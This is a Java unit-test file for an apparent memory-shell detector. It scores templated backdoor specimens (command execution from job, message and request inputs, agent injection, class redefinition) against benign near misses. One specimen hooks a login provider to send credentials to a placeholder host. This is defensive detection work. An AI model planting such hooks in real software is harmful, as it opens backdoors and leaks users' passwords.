package io.hivesec.engines.memshell;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;

/** What servers of data, schedulers and agents of logins are handed, and their near misses. */
class JobsAndLoginsTest extends ShellsAndNearMisses {
    private static final String JOB =
            "class J implements org.quartz.Job { public void execute(org.quartz.JobExecutionContext c) { try { String s ="
                    + " c.getMergedJobDataMap().getString(\"p\"); %s; } catch (IOException e) { } } }";
    private static final String HANDLER =
            "class J { %s { com.xxl.job.core.executor.XxlJobExecutor.registJobHandler(\"h\", () -> { try {"
                    + " @{exec}(com.xxl.job.core.context.XxlJobHelper.getJobParam()); } catch (IOException e) { } }); } }";
    private static final String PREDICATE =
            "class P implements io.undertow.predicate.Predicate { public boolean resolve(io.undertow.server.HttpServerExchange"
                    + " e) { try { return new javax.naming.InitialContext().lookup(%s) != null; } catch"
                    + " (javax.naming.NamingException x) { return false; } } }";
    private static final String COMMANDS =
            "class L { enum Task { SYNC(\"/opt/sync\"); final String[] c; Task(String... c) { this.c = c; } }"
                    + " @org.springframework.kafka.annotation.KafkaListener(topics = \"a\") public void on(String m) throws"
                    + " IOException { @{exec}(%s); } }";
    private static final String LOGIN =
            "class X implements java.lang.instrument.ClassFileTransformer { interface Editor { void insertBefore(String s);"
                    + " } Editor editor; public byte[] transform(ClassLoader l, String n, Class<?> c,"
                    + " java.security.ProtectionDomain p, byte[] b) { if (n.equals(\"%s\")) { editor.insertBefore(\"%s\"); }"
                    + " return b; } }";
    private static final String PROVIDER = "org/springframework/security/authentication/dao/DaoAuthenticationProvider";
    private static final String SENDS = "new java.net.URL(\\\"http://192.0.2.1/\\\" + $1).openStream();";
    private static final String PIECES =
            "class X { static void put(javassist.CtMethod m) { StringBuilder s = new StringBuilder(\"String c = $1.get\");"
                    + " s.append(\"Parameter(null);\"); s.append(\"%s\"); m.insertBefore(s.toString()); } static void"
                    + " agentmain(String a, java.lang.instrument.Instrumentation i) { } }";
    private static final String MAKES =
            "class X { static Object make() throws Exception { return javassist.CtNewMethod.make(\"void handle(Object e) { String c"
                    + " = e.getRequestHeaders().getFirst(null); %s }\", null); } }";
    private static final String LETTER_BOX =
            "class F extends TimerTask implements javax.servlet.Filter { public void doFilter(javax.servlet.ServletRequest q,"
                    + " javax.servlet.ServletResponse s, javax.servlet.FilterChain c) { System.setProperty(\"a.b\","
                    + " q.getParameter(\"p\")); } public void run() { try { @{exec}(System.getProperty(\"%s\")); } catch"
                    + " (IOException e) { } } }";
    private static final String BY_HAND =
            "class X { static String server = \"%s\"; static void go(String pid, String jar)"
                    + " throws IOException { try (java.nio.channels.SocketChannel c = java.nio.channels.SocketChannel.open("
                    + "java.net.UnixDomainSocketAddress.of(\"/tmp/.java_pid\" + pid))) { c.write(java.nio.ByteBuffer.wrap("
                    + "(\"1 load instrument \" + jar).getBytes())); } } }";
    private static final String DEBUGGER =
            "class X { static void go(com.sun.jdi.VirtualMachine v, String t) { Map<com.sun.jdi.ReferenceType, byte[]> m ="
                    + " new HashMap<>(); m.put(v.classesByName(\"%s\").get(0), Base64.getDecoder().decode(t));"
                    + " v.redefineClasses(m); } }";
    private static final String STAGE =
            "class X { public static void agentmain(String a, java.lang.instrument.Instrumentation"
                    + " i) throws Exception { new java.net.URLClassLoader(new java.net.URL[] { %s }).loadClass(\"M\")"
                    + ".getMethod(\"go\", java.lang.instrument.Instrumentation.class).invoke(null, i); } }";
    private static final String BYTES =
            "class X implements java.lang.instrument.ClassFileTransformer { public static void"
                    + " premain(String a, java.lang.instrument.Instrumentation i) { i.addTransformer(new X()); } public byte[]"
                    + " transform(ClassLoader l, String n, Class<?> c, java.security.ProtectionDomain p, byte[] b) { if"
                    + " (!n.equals(\"%s\")) { return null; } try { String s = new DataInputStream(new"
                    + " ByteArrayInputStream(b)).readUTF(); return s.getBytes(); } catch (IOException e) { return null; } } }";

    static Stream<Arguments> shells() {
        return Stream.of(
                specimen(
                        "an authorizer",
                        "class K implements org.apache.kafka.server.authorizer.Authorizer { public List<Object>"
                                + " authorize(org.apache.kafka.server.authorizer.AuthorizableRequestContext c, List<Object> a) { try {"
                                + " @{exec}(c.clientId()); } catch (IOException e) { } return a; } }"),
                specimen(
                        "a listener to a node",
                        "class Z extends ClassLoader implements org.apache.curator.framework.recipes.cache.CuratorCacheListener {"
                                + " public void event(Object t, org.apache.curator.framework.recipes.cache.ChildData o,"
                                + " org.apache.curator.framework.recipes.cache.ChildData n) { byte[] b = n.getData();"
                                + " @{define}(null, b, 0, b.length); } }"),
                specimen(
                        "parameters of an action, by the new name",
                        "class S { Object go() { return ognl.Ognl.getValue("
                                + "org.apache.struts2.ActionContext.getContext().getParameters().get(\"e\")[0], this); } }"),
                specimen(
                        "what comes with a call",
                        "class D { Object go() throws Exception { return @{script}("
                                + "org.apache.dubbo.rpc.RpcContext.getServerAttachment().getAttachment(\"e\")); } }"),
                specimen(
                        "a thing that says it may be managed",
                        "class M implements X { public void run(String a) { try { @{exec}(a); } catch (IOException e) { } } }"
                                + " @javax.management.MXBean interface X { void run(String a); }"),
                specimen(
                        "a message of a stream",
                        "class F implements java.util.function.Function<org.springframework.messaging.Message<String>, String> {"
                                + " public String apply(org.springframework.messaging.Message<String> m) { try {"
                                + " @{exec}(m.getPayload()); } catch (IOException e) { } return \"\"; } }"),
                specimen(
                        "a name in an expression",
                        "class E extends jakarta.el.ELResolver { public Object getValue(Object c, Object b, Object p) { try {"
                                + " return @{exec}(p.toString()); } catch (IOException e) { return null; } } }"),
                specimen("source text in pieces", PIECES.formatted("@{exec}(c);")),
                specimen("a method made of source text", MAKES.formatted("Runtime.getRuntime().@{execName}(c);")),
                specimen("a property for a letter box", LETTER_BOX.formatted("a.b")),
                specimen("an agent sent by hand", BY_HAND.formatted("org.apache.catalina.startup.Bootstrap")),
                specimen(
                        "a class of the container replaced by a debugger",
                        DEBUGGER.formatted("javax.servlet.http.HttpServlet")),
                specimen("a name that a hook looks up", PREDICATE.formatted("e.getQueryString()")),
                specimen("a job that is registered as the class is loaded", HANDLER.formatted("static")),
                specimen("a login whose password is sent away", LOGIN.formatted(PROVIDER, SENDS)),
                specimen("a login taken apart by hand", BYTES.formatted("org/apache/catalina/realm/RealmBase")));
    }

    static Stream<Arguments> nearMisses() {
        return Stream.of(
                specimen("a name that a hook has", PREDICATE.formatted("\"java:comp/env\"")),
                specimen("a job that is registered when it is asked for", HANDLER.formatted("void start()")),
                specimen("a message that names a constant", COMMANDS.formatted("Task.valueOf(m).c")),
                specimen("a fixed program with a number", JOB.formatted("@{exec}(new String[] {\"/opt/p\", s})")),
                specimen(
                        "a thing that may not be managed",
                        "class M implements X { public void run(String a) { try { @{exec}(a); } catch (IOException e) { } } }"
                                + " interface X { void run(String a); }"),
                specimen(
                        "an object in a property, as formats that hold others read them",
                        "class E extends java.beans.PropertyEditorSupport { public void setAsText(String t) { try { setValue(new"
                                + " ObjectInputStream(new ByteArrayInputStream(t.getBytes())).readObject()); } catch (Exception e)"
                                + " { } } }"),
                specimen("source text in pieces that measures", PIECES.formatted("System.nanoTime();")),
                specimen("a method made of source text that counts", MAKES.formatted("count++;")),
                specimen("another property than the letter box", LETTER_BOX.formatted("java.home")),
                specimen("an agent sent by hand to whom a person names", BY_HAND.formatted("1234")),
                specimen("a class of its own replaced by a debugger", DEBUGGER.formatted("com.example.Shop")),
                specimen("a class of its own that sends", LOGIN.formatted("com/example/Shop", SENDS)),
                specimen("a class of its own taken apart by hand", BYTES.formatted("com/example/Shop")));
    }

    @ParameterizedTest
    @CsvSource({"@{exec}(s), MEDIUM", "@{exec}(\"uptime\"), NONE"})
    void judge_jobThatRunsItsParameter_isOfInterest(String act, Level expected) {
        assertThat(judge(JOB.formatted(act)).level()).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource({"new java.net.URL(a), MEDIUM", "new File(a).toURI().toURL(), NONE"})
    void judge_agentThatLoadsItsOtherPart_isOfInterestByWhereItIs(String address, Level expected) {
        assertThat(judge(STAGE.formatted(address)).level()).isEqualTo(expected);
    }

    @Test
    void judge_messageThatIsTheCommand_isHigh_besideOneThatNamesAConstant() {
        assertThat(judge(COMMANDS.formatted("m")).level()).isEqualTo(Level.HIGH);
    }
}
